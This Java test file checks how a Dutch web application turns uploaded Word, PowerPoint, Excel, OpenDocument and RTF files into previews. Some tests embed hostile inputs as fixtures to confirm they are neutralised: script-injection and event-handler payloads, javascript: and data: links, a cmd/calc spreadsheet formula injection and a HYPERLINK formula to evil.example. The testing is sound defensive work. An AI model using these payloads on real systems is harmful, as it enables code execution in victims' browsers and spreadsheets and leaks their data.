package nl.leerkring.library;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import nl.leerkring.circles.Role;
import nl.leerkring.library.reading.Readings;
import nl.leerkring.world.Answered;
import nl.leerkring.world.Counted;
import nl.leerkring.world.Guest;
import nl.leerkring.world.Parcel;
import nl.leerkring.world.TestDatabase;
import nl.leerkring.world.WordFile;
import nl.leerkring.world.World;
import org.apache.poi.xslf.usermodel.SlideLayout;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFSlide;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/** Office documents, as the page shows them. */
class PreviewTests {

    private static final Workshop SHOP = new Workshop(World.counted(TestDatabase.fresh(), "--leerkring.jobs.enabled=false"));
    private static final String CIRCLE = SHOP.place.replaceAll("/bijeenkomsten/.*", "");
    private static final String SHELF = CIRCLE + "/documenten";

    @AfterAll
    static void stop() {
        SHOP.close();
    }

    @Test
    void a_document_keeps_its_headings_lists_and_tables() {
        String at = put("Plan.docx", new WordFile().titled("Niet in de tekst").heading(1, "Waarom").line("Omdat het <b>kan</b> & mag.").heading(3, "Dieper").dots("lopen", "fietsen")
                .numbers("eerst dit", "dan dat").table(new String[] {"Wie", "Wat"}, new String[] {"Noor", "de route"}).link("lees meer", "https://voorbeeld.example/meer").bytes());
        Document read = read(at + "/inhoud").page();
        assertThat(read.select("main h1").eachText()).containsExactly("Plan");
        assertThat(read.select(".lk-preview h3").eachText()).containsExactly("Waarom");
        assertThat(read.select(".lk-preview h4").eachText()).as("no level is skipped").containsExactly("Dieper");
        assertThat(read.select(".lk-preview p").eachText()).contains("Omdat het <b>kan</b> & mag.");
        assertThat(read.select(".lk-preview ul > li").eachText()).containsExactly("lopen", "fietsen");
        assertThat(read.select(".lk-preview ol > li").eachText()).containsExactly("eerst dit", "dan dat");
        assertThat(read.select(".lk-preview th[scope=col]").eachText()).containsExactly("Wie", "Wat");
        assertThat(read.select(".lk-preview td").eachText()).containsExactly("Noor", "de route");
        assertThat(read.select(".lk-preview [role=region][tabindex=0]").attr("aria-label")).isEqualTo("Tabel 1");
        assertThat(read.select(".lk-preview a").attr("rel")).contains("nofollow", "noreferrer");
        assertThat(read.select(".lk-preview").text()).doesNotContain("Niet in de tekst");
    }

    @Test
    void the_page_of_the_document_fetches_the_beginning_and_has_a_link_for_who_has_no_scripts() {
        String at = put("Begin.docx", new WordFile().heading(1, "Het begin").line("van alles").bytes());
        assertThat(SHOP.coordinator.get(at).main()).contains("We lezen het bestand nog.");
        Document page = read(at).page();
        assertThat(page.select("[data-hx-get='" + at + "/begin']")).hasSize(1);
        assertThat(page.select("main").text()).doesNotContain("van alles").doesNotContain("zonder opmaak");
        assertThat(SHOP.coordinator.get(page.select("[data-hx-get] a").attr("href")).main()).contains("Het begin", "van alles");
        Document part = SHOP.coordinator.part(at + "/begin").page();
        assertThat(part.select("[role=region][tabindex=0]").attr("aria-label")).isEqualTo("Wat er in het document staat");
        assertThat(part.text()).contains("Het begin", "van alles", "Lees het op een eigen pagina");
        assertThat(SHOP.coordinator.get(at + "/begin").path()).as("asked as a page").isEqualTo(at);
    }

    @Test
    void a_presentation_shows_its_slides_by_number_and_a_spreadsheet_its_sheets_by_name() throws IOException {
        String slides = put("Praatje.pptx", slides("Waar we staan", "Waar we heen gaan"));
        assertThat(read(slides + "/inhoud").page().select(".lk-preview h3").eachText()).containsExactly("Dia 1: Waar we staan", "Dia 2: Waar we heen gaan", "Dia 3");
        assertThat(SHOP.coordinator.get(slides + "/inhoud").main()).contains("het eerste punt", "Op deze dia staat geen tekst.");
        Guest english = SHOP.world.member(CIRCLE, "reader@werkplaats.example", "Reader", Role.OBSERVER);
        english.postRaw("/taal", "taal", "en", "terug", "/");
        assertThat(english.get(slides + "/inhoud").main()).contains("Slide 1: Waar we staan", "There is no text on this slide.", "Pictures and layout are in the file.");
        String sheets = put("Cijfers.xlsx", sheets());
        Document read = read(sheets + "/inhoud").page();
        assertThat(read.select(".lk-preview h3").eachText()).containsExactly("Blad ‘Gemeenten’", "Blad ‘Later’");
        assertThat(read.select(".lk-preview th").eachText()).containsExactly("Gemeente", "Inwoners");
        assertThat(read.select(".lk-preview td").eachText()).as("a formula is never worked out, and what looks like one is text").containsExactly("=cmd|' /C calc'!A0", "12.5", "Zwolle", "x");
        assertThat(read.select(".lk-preview").text()).contains("Dit blad is leeg.").doesNotContain("HYPERLINK", "evil.example");
        assertThat(read.select(".lk-preview tr").stream().map(row -> row.childrenSize()).distinct()).as("rows are equally wide").containsExactly(2);
    }

    @Test
    void open_document_formats_show_slides_and_sheets_as_well() throws IOException {
        String odp = put("Praatje.odp", open("presentation", "<office:presentation><draw:page><draw:frame><draw:text-box><text:p>Begin</text:p></draw:text-box></draw:frame><draw:frame><draw:text-box>"
                + "<text:list><text:list-item><text:p>een punt</text:p></text:list-item></text:list></draw:text-box></draw:frame><presentation:notes><text:p>stiekem</text:p></presentation:notes></draw:page></office:presentation>"));
        assertThat(read(odp + "/inhoud").page().select(".lk-preview h3").eachText()).containsExactly("Dia 1: Begin");
        assertThat(SHOP.coordinator.get(odp + "/inhoud").page().select(".lk-preview li").eachText()).containsExactly("een punt");
        String ods = put("Tabel.ods", open("spreadsheet", "<office:spreadsheet><table:table table:name='Blad een'><table:table-row><table:table-cell><text:p>a</text:p></table:table-cell>"
                + "<table:table-cell table:number-columns-repeated='9999'/></table:table-row></table:table></office:spreadsheet>"));
        assertThat(read(ods + "/inhoud").page().select(".lk-preview h3, .lk-preview td").eachText()).containsExactly("Blad ‘Blad een’", "a");
        String odt = put("Tekst.odt", open("text", "<office:text><text:h text:outline-level='4'>Kop</text:h><text:p>zin <text:a xlink:href='javascript:alert(1)'>klik</text:a><text:a xlink:href='https://a.example/&quot; onmouseover=&quot;alert(1)'>!</text:a></text:p></office:text>"));
        Document read = read(odt + "/inhoud").page();
        assertThat(read.select(".lk-preview h3").eachText()).containsExactly("Kop");
        assertThat(read.select(".lk-preview p").eachText()).containsExactly("zin klik!");
        assertThat(read.select(".lk-preview a")).isEmpty();
        String rtf = put("Oud.rtf", "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hallo \\b vet\\b0\\par}".getBytes(StandardCharsets.US_ASCII));
        assertThat(read(rtf + "/inhoud").page().select(".lk-preview strong").eachText()).containsExactly("vet");
    }

    @Test
    void a_long_document_is_read_in_parts_that_are_light_and_says_where_it_ends() {
        WordFile word = new WordFile();
        for (int i = 1; i <= 40; i++) {
            word.heading(1, "Hoofdstuk " + i).line(("Zin " + i + " over wandelen en fietsen. ").repeat(300));
        }
        String at = put("Dik.docx", word.bytes());
        Answered first = read(at + "/inhoud");
        assertThat(first.main()).contains("Deel 1 van ").doesNotContain("Niet alles past hier.");
        int parts = Integer.parseInt(first.page().select("h2").first().text().replaceAll(".* ", ""));
        Answered last = SHOP.coordinator.get(at + "/inhoud?deel=" + parts);
        assertThat(last.main()).contains("Niet alles past hier.", "Vorige deel").doesNotContain("Lees verder");
        StringBuilder all = new StringBuilder();
        for (int i = 1; i <= parts; i++) {
            Answered part = SHOP.coordinator.get(at + "/inhoud?deel=" + i);
            assertThat(part.response().body().length).as("part " + i).isLessThan(50_000);
            all.append(part.page().select(".lk-preview").text());
        }
        assertThat(all).contains("Hoofdstuk 1 ", "Hoofdstuk 10 ").doesNotContain("Hoofdstuk 40");
        assertThat(SHOP.coordinator.get(first.page().select("nav a:contains(Lees verder)").attr("href")).main()).contains("Deel 2 van ");
        assertThat(SHOP.coordinator.get(at + "/inhoud?deel=" + (parts + 1)).status()).isEqualTo(404);
        assertThat(SHOP.coordinator.get(at + "/inhoud?deel=wat").main()).contains("Deel 1 van ");
        assertThat(SHOP.coordinator.part(at + "/begin").page().select("a:contains(Lees verder)").attr("href")).isEqualTo(at + "/inhoud?deel=2");
    }

    @Test
    void a_table_that_only_makes_a_layout_is_read_as_text_and_a_cell_that_is_too_long_says_so() {
        String at = put("Kader.docx", new WordFile().table(new String[] {"Alles staat in een kader."}).line("tussen").table(new String[] {"Wie", "Wat"}, new String[] {"Noor", "woord ".repeat(3000)}).bytes());
        Document read = read(at + "/inhoud").page();
        assertThat(read.select(".lk-preview p").eachText()).contains("Alles staat in een kader.", "tussen");
        assertThat(read.select(".lk-preview td").last().text()).startsWith("woord woord").endsWith("…");
        assertThat(read.select("main").text()).contains("Niet alles past hier.");
    }

    @Test
    void each_version_has_its_own_preview_that_goes_with_it() {
        String at = put("Versie.docx", new WordFile().line("de eerste").bytes());
        new Parcel().file("bestand", "Versie.docx", new WordFile().line("de tweede").bytes()).send(SHOP.coordinator, at + "/versies");
        assertThat(read(at + "/inhoud").main()).contains("de tweede").doesNotContain("de eerste");
        String older = SHOP.coordinator.get(at).page().select("a:contains(Inkijk in versie 1)").attr("href");
        assertThat(SHOP.coordinator.get(older).main()).contains("de eerste", "versie 1").doesNotContain("de tweede");
        assertThat(SHOP.coordinator.get(at + "/inhoud?versie=3").status()).isEqualTo(404);
        SHOP.coordinator.postRaw(at + "/verwijdering");
        assertThat(SHOP.coordinator.get(older).status()).isEqualTo(404);
        assertThat(SHOP.coordinator.part(at + "/begin").status()).isEqualTo(404);
        String id = at.substring(at.lastIndexOf('/') + 1);
        SHOP.world.owner().sql("update library.document set removed = now() - interval '40 days' where id = ?::uuid").param(id).update();
        SHOP.world.sweep("library");
        assertThat(SHOP.world.owner().sql("select count(*) from library.reading where preview::text like '%de eerste%'").query(Integer.class).single()).isZero();
    }

    @Test
    void only_who_may_see_the_document_reads_it() {
        String at = put("Van ons.docx", new WordFile().line("alleen voor ons").bytes());
        assertThat(read(at + "/inhoud").main()).contains("alleen voor ons");
        Guest other = SHOP.world.signedIn("otto@elders.example", "Otto");
        String elsewhere = SHOP.world.circle(other, "Kring van elders");
        for (String word : List.of("/inhoud", "/inhoud?versie=1", "/begin")) {
            assertThat(other.part(at + word).status()).isEqualTo(404);
            assertThat(other.part(at.replace(CIRCLE, elsewhere) + word).status()).as("by way of her own circle").isEqualTo(404);
            assertThat(SHOP.world.guest().once(at + word).text()).doesNotContain("alleen voor ons");
        }
        Guest stopped = SHOP.world.member(CIRCLE, "oud@werkplaats.example", "Oud", Role.ALUMNUS);
        assertThat(stopped.get(at + "/inhoud").status()).isEqualTo(stopped.get(at).status());
    }

    @Test
    void nothing_in_a_hostile_document_runs_or_is_fetched() {
        String at = put("Vijand.docx", new WordFile().heading(1, "<img src=x onerror=alert(1)>").line("<script>alert(1)</script>").link("klik", "javascript:alert(1)").link("data", "data:text/html,%3Cscript%3E")
                .table(new String[] {"<iframe src=//evil.example>", "b"}, new String[] {"=HYPERLINK(\"http://evil.example\")", "d"}).bytes());
        Answered read = read(at + "/inhoud");
        Document page = read.page();
        assertThat(page.select(".lk-preview script, .lk-preview img, .lk-preview iframe, .lk-preview [onerror], .lk-preview [onmouseover], .lk-preview a[href^=javascript], .lk-preview a[href^=data]")).isEmpty();
        assertThat(page.select(".lk-preview h3").eachText()).containsExactly("<img src=x onerror=alert(1)>");
        assertThat(read.header("Content-Security-Policy")).isEqualTo(SHOP.coordinator.get(SHELF).header("Content-Security-Policy")).doesNotContain("unsafe-inline");
    }

    @Test
    void what_was_stored_is_cleaned_once_more_each_time_it_is_shown() {
        String at = put("Besmet.docx", new WordFile().line("schoon").bytes());
        read(at);
        SHOP.world.owner().sql("update library.reading set preview = '[[{\"slide\":0,\"name\":\"\",\"again\":false,\"html\":\"<p onclick=x>vuil</p><script>alert(1)</script><form action=/x><input></form><img src=//evil.example/x>\"}]]' where preview::text like '%schoon%'").update();
        Document page = SHOP.coordinator.get(at + "/inhoud").page();
        assertThat(page.select(".lk-preview p").outerHtml()).isEqualTo("<p>vuil</p>");
        assertThat(page.select(".lk-preview script, .lk-preview form, .lk-preview input, .lk-preview img")).isEmpty();
    }

    @Test
    void what_cannot_be_shown_says_so_and_offers_the_download() {
        String at = put("Kapot.docx", "PK\u0003\u0004 dit is geen document".getBytes(StandardCharsets.ISO_8859_1));
        String download = SHOP.coordinator.get(at).page().select(".lk-button--primary").attr("href");
        Document page = read(at).page();
        assertThat(page.select("main").text()).contains("We konden dit bestand niet veilig lezen.");
        assertThat(page.select("p a:contains(Downloaden kan wel.)").attr("href")).isEqualTo(download);
        assertThat(SHOP.coordinator.get(at + "/inhoud").main()).contains("Van dit bestand kunnen we hier niets laten zien.", "Downloaden kan wel.");
        String empty = put("Leeg.docx", new WordFile().bytes());
        assertThat(read(empty).main()).contains("Van dit bestand kunnen we hier niets laten zien.");
        String text = put("Gewoon.txt", "gewone tekst".getBytes(StandardCharsets.UTF_8));
        assertThat(read(text).main()).contains("gewone tekst");
        assertThat(SHOP.coordinator.get(text + "/inhoud").status()).as("has no preview").isEqualTo(404);
    }

    @Test
    void a_document_that_waits_to_be_read_once_more_shows_its_words_meanwhile_and_goes_after_what_is_new() {
        String at = put("Van vroeger.docx", new WordFile().heading(1, "Vroeger").line("was alles woorden").bytes());
        read(at);
        SHOP.world.owner().sql("update library.reading set preview = null, state = 'waiting', attempts = 0, later = now() - interval '1 second' where preview::text like '%was alles woorden%'").update();
        assertThat(SHOP.coordinator.get(at).main()).contains("was alles woorden").doesNotContain("We lezen het bestand nog.");
        assertThat(SHOP.coordinator.get(at + "/inhoud").main()).contains("We lezen het bestand nog.");
        assertThat(read(at + "/inhoud").page().select(".lk-preview h3").text()).isEqualTo("Vroeger");
    }

    @Test
    void reading_asks_the_database_few_questions() {
        String at = put("Vragen.docx", new WordFile().line("hoeveel").bytes());
        read(at);
        for (String address : List.of(at, at + "/inhoud", at + "/inhoud?versie=1")) {
            Counted.take();
            assertThat(SHOP.coordinator.once(address).status()).isEqualTo(200);
            assertThat(Counted.take()).as(address).hasSizeLessThanOrEqualTo(12).doesNotHaveDuplicates();
        }
    }

    private static String put(String name, byte[] bytes) {
        Answered page = new Parcel().file("bestand", name, bytes).send(SHOP.coordinator, SHELF + "/nieuw");
        assertThat(page.status()).as(page.main()).isEqualTo(200);
        return page.path();
    }

    private static Answered read(String address) {
        SHOP.world.bean(Readings.class).work();
        return SHOP.coordinator.get(address);
    }

    private static byte[] slides(String... titles) throws IOException {
        try (XMLSlideShow show = new XMLSlideShow(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            for (String title : titles) {
                XSLFSlide slide = show.createSlide(show.getSlideMasters().getFirst().getLayout(SlideLayout.TITLE_AND_CONTENT));
                slide.getPlaceholder(0).setText(title);
                slide.getPlaceholder(1).setText("het eerste punt\nhet tweede punt");
            }
            show.createSlide();
            show.write(bytes);
            return bytes.toByteArray();
        }
    }

    private static byte[] sheets() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Gemeenten");
            cells(sheet.createRow(0), "Gemeente", "Inwoners");
            XSSFRow first = sheet.createRow(1);
            cells(first, "=cmd|' /C calc'!A0");
            first.createCell(1).setCellValue(12.5);
            XSSFRow second = sheet.createRow(7);
            cells(second, "Zwolle");
            second.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/\"&A1,\"x\")");
            second.getCell(1).setCellValue("x");
            book.createSheet("Later");
            book.write(bytes);
            return bytes.toByteArray();
        }
    }

    private static void cells(XSSFRow row, String... words) {
        for (int i = 0; i < words.length; i++) {
            row.createCell(i).setCellValue(words[i]);
        }
    }

    private static byte[] open(String kind, String body) throws IOException {
        String type = "application/vnd.oasis.opendocument." + kind;
        String spaces = Map.of("office", "office", "text", "text", "table", "table", "draw", "drawing", "presentation", "presentation").entrySet().stream()
                .map(each -> " xmlns:" + each.getKey() + "='urn:oasis:names:tc:opendocument:xmlns:" + each.getValue() + ":1.0'").reduce("", String::concat);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("mimetype"));
            zip.write(type.getBytes(StandardCharsets.US_ASCII));
            zip.putNextEntry(new ZipEntry("content.xml"));
            zip.write(("<office:document-content" + spaces + " xmlns:xlink='http://www.w3.org/1999/xlink'><office:body>" + body + "</office:body></office:document-content>").getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }
}
